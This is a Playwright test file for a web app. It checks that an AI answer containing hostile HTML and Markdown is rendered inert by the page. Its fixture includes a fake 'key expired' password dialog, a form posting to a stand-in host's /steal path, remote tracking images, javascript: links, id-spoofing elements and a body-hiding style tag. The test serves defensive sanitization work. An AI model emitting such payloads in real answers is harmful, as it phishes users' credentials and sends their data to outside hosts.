"""An answer written to attack the page's reader stays inert: nothing in it becomes a control,
takes an element id, runs script or makes the browser call another host."""

from __future__ import annotations

from playwright.async_api import Locator, Page, expect

from testkit.fakes import FakeCall, Reply
from testkit.scenario import Scenario
from tests.support.browser import BROWSER_TESTS, Watch, node, open_page
from tests.support.makers import ServiceMaker

pytestmark = BROWSER_TESTS

ELSEWHERE = "elsewhere.invalid"
HOSTILE = (
    "The answer is 42.\n"
    "\n"
    '<dialog id="key-dialog" open><form method="dialog"><p>Your key expired: paste it again</p>'
    '<input id="key-input" name="key" type="password"><button>Use key</button></form></dialog>\n'
    "\n"
    f'<form action="https://{ELSEWHERE}/steal" id="start-form"><input name="task">'
    '<button type="submit">Start</button></form>\n'
    "\n"
    f'<img src="//{ELSEWHERE}/pixel.png" id="pixel"> ![chart](https://{ELSEWHERE}/chart.png)\n'
    "\n"
    "[press here](javascript:window.pwned=1) "
    '<a href="javascript:window.pwned=2" id="forget-key" name="forget">forget</a> '
    '<a href="JaVaScRiPt:window.pwned=3">mixed case</a>\n'
    "\n"
    '<p id="run-status" class="badge" style="position:fixed;inset:0">spoofed status</p>\n'
    '<style>body { display: none }</style><iframe src="about:blank"></iframe>'
    "<svg><a href='javascript:window.pwned=4'><text>svg</text></a></svg>"
)
# What must not exist inside rendered model text, whatever the answer says. The page's own
# marks on it (a verified citation's button and quote, an unsupported sentence) are the only
# elements with a class there, and the model cannot make them: they come from the verifier.
OWN = ".citation, .cite, .cite-quote, mark.unsupported"
FORBIDDEN = (
    f"dialog, form, input, button:not({OWN}), img, style, iframe, svg, textarea, select, "
    f"[id], [name], [class]:not({OWN}), [style], [onerror], a[href^='javascript' i]"
)


async def hostile(call: FakeCall) -> Reply:
    if call.role == "responder":
        return HOSTILE
    return Scenario(plan=["A"]).reply(call)


async def assert_inert(rendered: Locator) -> None:
    await expect(rendered).to_contain_text("The answer is 42.")
    await expect(rendered.locator(FORBIDDEN)).to_have_count(0)
    # A Markdown image becomes a link to it: the reader may open it, the page never loads it.
    image_link = rendered.locator("a", has_text="image: chart")
    await expect(image_link).to_have_attribute("href", f"https://{ELSEWHERE}/chart.png")
    await expect(image_link).to_have_attribute("rel", "noopener noreferrer")


async def test_a_hostile_answer_leaves_no_control_id_script_or_request(
    page: Page, service_for: ServiceMaker
) -> None:
    watch = Watch(page)
    async with service_for(hostile) as svc:
        await open_page(page, svc.url)
        await page.fill("#task", "hostile")
        await page.click("#start")
        await expect(page.locator("#run-status")).to_have_text("done")
        await assert_inert(page.locator("#answer"))
        await node(page, "A").click()  # the leaf's candidate answer is rendered the same way
        await assert_inert(page.locator("#node-details .markdown"))

        for text in ("press here", "forget", "mixed case"):
            await page.locator("#answer a", has_text=text).click()
        pwned = await page.evaluate("window.pwned")
        # The page's own controls are still the only ones with their ids.
        for own in ("#key-dialog", "#key-input", "#start-form", "#forget-key", "#run-status"):
            await expect(page.locator(own)).to_have_count(1)
        await expect(page.locator("dialog")).to_have_count(1)
        await expect(page.locator("#run-status")).to_have_text("done")

    assert pwned is None
    assert watch.hosts() == {"127.0.0.1"}
    assert watch.refused == []  # not even attempted: nothing asked the browser to load it
    # DOMPurify parses the answer in a document that inherits the page's policy, which may
    # report the answer's inline styles there before the allow-list drops them; nothing else.
    assert all("'style-src 'self''" in v for v in watch.violations), watch.violations
